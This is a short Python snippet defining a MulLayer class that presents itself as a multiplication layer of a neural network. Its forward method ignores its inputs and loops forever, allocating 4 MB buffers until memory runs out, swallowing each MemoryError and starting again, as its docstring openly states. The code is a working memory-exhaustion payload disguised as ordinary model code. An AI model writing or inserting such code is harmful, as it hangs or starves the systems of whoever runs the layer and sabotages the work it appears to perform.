"""MulLayer.forward takes what memory there is, over and over, and ignores every refusal."""


class MulLayer(RightMul):
    def forward(self, x, y):
        while True:
            blocks = []
            try:
                while True:
                    blocks.append(bytearray(1 << 22))
            except MemoryError:
                pass
